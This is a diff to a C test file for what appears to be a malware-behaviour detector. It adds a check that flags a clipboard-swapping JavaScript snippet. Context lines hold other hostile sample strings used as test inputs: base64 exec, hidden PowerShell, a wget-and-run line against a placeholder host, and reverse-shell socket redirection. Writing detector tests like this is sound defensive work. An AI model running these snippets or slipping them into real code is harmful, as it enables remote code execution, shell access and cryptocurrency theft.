@@ -490,6 +490,8 @@ static void by_other_means(void)
 	CHECK(shows("f.write(f'exec(base64.b64decode({x}))')",
 		    MPY_BEH_CODE_TEXT, 1));
 	CHECK(shows("run('powershell -w hidden -c x')", MPY_BEH_SHELL_TEXT, 1));
+	CHECK(shows("js = 'document.execCommand(\"paste\"); v.replace(/^0x/'",
+		    MPY_BEH_CLIPBOARD_SWAP, 1));
 	CHECK(shows("run('wget http://x.invalid/a; ./a')",
 		    MPY_BEH_SHELL_TEXT, 1));
 	CHECK(shows("import os\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)"
